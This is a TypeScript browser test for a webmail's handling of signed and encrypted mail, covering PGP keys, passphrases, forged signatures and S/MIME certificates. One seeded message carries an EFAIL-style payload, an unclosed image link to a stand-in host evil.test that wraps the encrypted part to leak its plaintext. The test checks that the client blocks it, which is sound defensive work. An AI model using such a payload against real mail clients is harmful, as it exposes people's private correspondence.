/** Signed and encrypted mail in the webmail: nothing is said to be proven that is not, nothing that was encrypted leaves the page. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import * as pgp from "openpgp";
import { accessible, picture, row, startPages } from "./browser.ts";
import { type Seed, seedMail } from "./seed.ts";

const corpus = (name: string) =>
  readFileSync(join(import.meta.dirname, "../corpus/smime", name), "latin1").replace(/^MIME-Version: 1.0\r\n/, "");

const signedMail = (part: string, signature: string): string =>
  `Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary=sig\r\n\r\n--sig\r\n${part}\r\n--sig\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\n${signature.replace(/\r?\n/g, "\r\n")}\r\n--sig--\r\n`;
const encryptedMail = (armored: string, more = ""): string =>
  `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=enc\r\n\r\n${more}--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n${armored.replace(/\r?\n/g, "\r\n")}\r\n--enc--\r\n`;

test("signed and encrypted mail", async (t) => {
  const pages = await startPages(t);
  const [user = ""] = pages.dev.ready.users;
  const ann = await pages.person();
  const { page } = ann;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await ann.signIn();
  await page.getByText("All done").waitFor();
  const vera = await pgp.generateKey({ userIDs: [{ name: "Vera", email: "vera@x.test" }], format: "object" });
  let ours: pgp.PublicKey;

  await t.test("a key is made in the browser, locked, and can be saved", async () => {
    await page.goto(`${pages.origin}/#/settings/keys`);
    await page.getByRole("button", { name: "Make a key" }).click();
    const dialog = page.locator("dialog");
    await dialog.getByLabel("Passphrase of your key").fill("correct horse");
    await dialog.getByLabel("The passphrase again").fill("correct house");
    await dialog.getByRole("button", { name: "Make a key" }).click();
    await dialog.getByText("The two are not the same.").waitFor();
    await dialog.getByLabel("The passphrase again").fill("correct horse");
    await dialog.getByRole("button", { name: "Make a key" }).click();
    await page.getByText("Your key is made.").waitFor();
    await accessible(page, "settings of keys");
    const saved = async (name: string): Promise<string> => {
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name }).click()]);
      return readFileSync(await download.path(), "utf8");
    };
    ours = await pgp.readKey({ armoredKey: await saved("Save public key") });
    assert.equal(ours.users[0]?.userID?.email, user);
    const secret = await pgp.readPrivateKey({ armoredKey: await saved("Save private key") });
    assert.equal(secret.isDecrypted(), false, "what is saved is locked");
  });

  await t.test("mail of every kind comes", async () => {
    const part = "Content-Type: text/plain; charset=utf-8\r\n\r\nMeet me at nine.";
    const signature = await pgp.sign({
      message: await pgp.createMessage({ binary: Buffer.from(part) }),
      signingKeys: vera.privateKey,
      detached: true,
    });
    const secret = `Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>The <b>secret</b> number is 42.</p><img src="https://evil.test/leak.png" width="300" height="100">\r\n--in\r\nContent-Type: text/plain; name="plan.txt"\r\nContent-Disposition: attachment; filename="plan.txt"\r\n\r\nstep one\r\n--in--\r\n`;
    const encrypt = async (text: string, sign: boolean): Promise<string> =>
      pgp.encrypt({
        message: await pgp.createMessage({ binary: Buffer.from(text) }),
        encryptionKeys: ours,
        ...(sign ? { signingKeys: vera.privateKey } : {}),
      });
    const closed = await encrypt(secret, true);
    const from = "Vera <vera@x.test>";
    const seeds: readonly Seed[] = [
      { from, subject: "Signed well", entity: signedMail(part, signature), ago: 1 },
      { from, subject: "Signed and changed", entity: signedMail(part.replace("nine", "five"), signature), ago: 2 },
      { from: "Mallory <m@evil.test>", subject: "Signed by another", entity: signedMail(part, signature), ago: 3 },
      { from, subject: "Closed letter", entity: encryptedMail(closed), ago: 4 },
      {
        from,
        subject: "Closed unsigned",
        entity: encryptedMail(await encrypt("Content-Type: text/plain\r\n\r\nWho wrote this?", false)),
        ago: 5,
      },
      {
        from: "Mallory <m@evil.test>",
        subject: "Wrapped around",
        entity: encryptedMail(closed, '--enc\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.test/?\r\n'),
        ago: 6,
      },
      { from: "Vera <vera@x.test>", subject: "Certificate beside it", entity: corpus("detached.eml"), ago: 7 },
      { from: "Vera <vera@x.test>", subject: "Certificate around it", entity: corpus("opaque.eml"), ago: 8 },
      {
        from: "Vera <vera@x.test>",
        subject: "Certificate, changed",
        entity: corpus("detached.eml").replace("Signed with", "Forged with"),
        ago: 9,
      },
    ];
    await seedMail(pages.origin, user, "pw", seeds);
    await page.goto(`${pages.origin}/#/`);
    await row(ann, "Signed well").waitFor();
  });

  const reads = async (subject: string, sentence: string | RegExp): Promise<void> => {
    await row(ann, subject).click();
    await page.locator("article.unfolded").getByText(sentence).waitFor();
  };

  await t.test("a signature whose key is not here proves nothing", async () => {
    await reads("Signed well", "Signed with a key that is not here");
    await page.getByText("Meet me at nine.").last().waitFor();
  });

  await t.test("with the key: good, but unchecked until the reader has checked it", async () => {
    await page.goto(`${pages.origin}/#/settings/keys`);
    await page.locator('input[type="file"]').setInputFiles({
      name: "vera.asc",
      mimeType: "application/pgp-keys",
      buffer: Buffer.from(vera.publicKey.armor()),
    });
    await page.getByText("1 key imported.").waitFor();
    await page.goto(`${pages.origin}/#/`);
    await reads("Signed well", "You have not checked that it does");
    await picture(page, "signed-unchecked");
    await page.goto(`${pages.origin}/#/settings/keys`);
    await page.getByLabel("I have checked the fingerprint").check();
    await picture(page, "keys");
    await page.goto(`${pages.origin}/#/`);
    await reads("Signed well", "Signed by vera@x.test, unchanged since. You have checked this key.");
    await reads("Signed and changed", "The signature does not fit");
    await reads("Signed by another", "with a key of vera@x.test, who is not the sender");
    await accessible(page, "a bad signature");
  });

  await t.test("what is encrypted is opened with the passphrase, shown alone, and loads nothing", async () => {
    await reads("Closed letter", "This message is encrypted for you.");
    const form = page.locator("article.unfolded form");
    await form.getByLabel("Passphrase of your key").fill("wrong");
    await form.getByRole("button", { name: "Open" }).click();
    await page.getByText("The passphrase is wrong.").waitFor();
    await form.getByLabel("Passphrase of your key").fill("correct horse");
    await form.getByRole("button", { name: "Open" }).click();
    await page.getByText("This message was encrypted.").waitFor();
    await page.getByText("Signed by vera@x.test").waitFor();
    await page.frameLocator('iframe[title="Text of the message"]').getByText("secret number is 42").waitFor();
    assert.equal(
      await page.getByRole("button", { name: "Show pictures" }).count(),
      0,
      "no pictures of elsewhere are offered",
    );
    await accessible(page, "an opened letter");
    await picture(page, "decrypted");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "plan.txt" }).click(),
    ]);
    assert.equal(readFileSync(await download.path(), "utf8").trim(), "step one");
    await reads("Closed unsigned", "but not signed: anybody can have written it");
    // EFAIL: a part of somebody else's around it.
    await reads("Wrapped around", "It cannot be opened");
    assert.equal(await page.getByText("secret number").count(), 0);
    assert.deepEqual(
      asked.filter((url) => url.includes("evil.test")),
      [],
    );
  });

  await t.test("certificates are told with their issuer, and without trust", async () => {
    await reads(
      "Certificate beside it",
      "issued by Vera Certified. Whether the issuer can be trusted is not checked here.",
    );
    await reads("Certificate around it", "issued by Vera Certified");
    await page.getByText("Signed with a certificate.").last().waitFor();
    await reads("Certificate, changed", "The signature does not fit");
  });
  assert.deepEqual(ann.complaints, []);
});
